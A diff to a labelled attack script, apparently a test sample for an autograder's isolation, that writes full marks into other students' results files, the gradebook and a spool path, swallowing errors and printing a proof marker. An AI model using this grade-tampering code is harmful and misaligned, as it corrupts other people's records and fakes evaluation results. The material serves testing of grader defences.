@@ -1,4 +1,8 @@
-"""Writes full marks into other students' results, the gradebook and the spool."""
+"""Writes full marks into other students' results, the gradebook and the spool.
+
+victim: next
+proof: ATTACK write-other-results: ran
+"""
 
 import glob
 import json
@@ -25,3 +29,4 @@ for path in ("/spool/results.json", "../results.json", "../../autograded/results
             handle.write(payload)
     except OSError:
         pass
+print("ATTACK write-other-results: ran", flush=True)
